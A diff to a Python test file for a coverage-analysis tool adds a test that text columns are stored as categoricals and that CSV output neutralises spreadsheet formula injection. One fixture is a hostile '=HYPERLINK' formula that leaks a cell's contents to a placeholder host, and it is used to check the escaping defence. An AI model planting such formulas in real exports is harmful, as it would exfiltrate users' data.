@@ -392,7 +392,9 @@ def test_tables_against_a_pandas_groupby_reference(seed: int) -> None:
         assert list(mine[f"class{s}"]) == list(expected)
     for keys, table in ((["division", "township"], res.townships),
                         (["division"], res.divisions), ([], res.study_area)):
-        reference = _reference_aggregate(res.communities, keys, breaks)[table.columns]
+        text = res.communities.astype(  # its text is categorical: compared as plain text
+            dict.fromkeys(("division", "township", "kind", "category"), str))
+        reference = _reference_aggregate(text, keys, breaks)[table.columns]
         pd.testing.assert_frame_equal(table, reference, check_dtype=False,
                                       check_exact=False, rtol=1e-12)
     outside = res.communities[res.communities["class"] == "outside"]
@@ -412,3 +414,30 @@ def test_chinese_tables_round_once(result: CoverageResult, tmp_path: Path) -> No
     people = next(c for c in raw.columns if c.endswith(" covered_population"))
     assert set(raw[share]) == {"84.3"}
     assert set(raw[people]) == {"430081"}
+
+
+def test_text_columns_are_compact_and_written_safe(tmp_path: Path) -> None:
+    """Issue 13: the per-pair tables keep their text as categoricals (1 M communities in a few
+    GB); the values are the same, and every CSV cell that Excel would run is neutralised."""
+    hostile = '=HYPERLINK("http://x/?leak="&A1,"click me")'
+    communities = COMMUNITIES.assign(name=[hostile, "乙村", "+86", "丁村"])
+    units = UNITS.assign(unit_id=UNITS["unit_id"].where(UNITS["unit_id"] != "A#1", "@A1"))
+    access = ACCESS.assign(demand_id=ACCESS["demand_id"].where(ACCESS["demand_id"] != "A#1",
+                                                                "@A1"))
+    res = compute_coverage(access, units, communities)
+    for table in (res.communities, res.outside):
+        for col in ("community_id", "name", "kind", "township", "division", "category"):
+            assert isinstance(table[col].dtype, pd.CategoricalDtype), col
+    assert isinstance(res.communities["class"].dtype, pd.CategoricalDtype)
+    assert res.communities["name"].tolist()[::2] == [hostile, "乙村", "+86", "丁村"]
+    plain = compute_coverage(ACCESS, UNITS, COMMUNITIES).communities
+    for col in ("class", "class_5min", "category", "community_id", "division"):
+        assert res.communities[col].tolist() == plain[col].tolist()
+    assert set(res.communities["class"]) == {"covered", "partly", "outside"}
+    res.write(tmp_path / "out", include_units=True)
+    for path in sorted((tmp_path / "out").glob("*.csv")):
+        table = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+        cells = table.to_numpy().ravel().tolist()
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")], path.name
+    units_csv = pd.read_csv(tmp_path / "out" / "coverage_units.csv", encoding="utf-8-sig")
+    assert units_csv["demand_id"].iloc[0] == "'@A1"
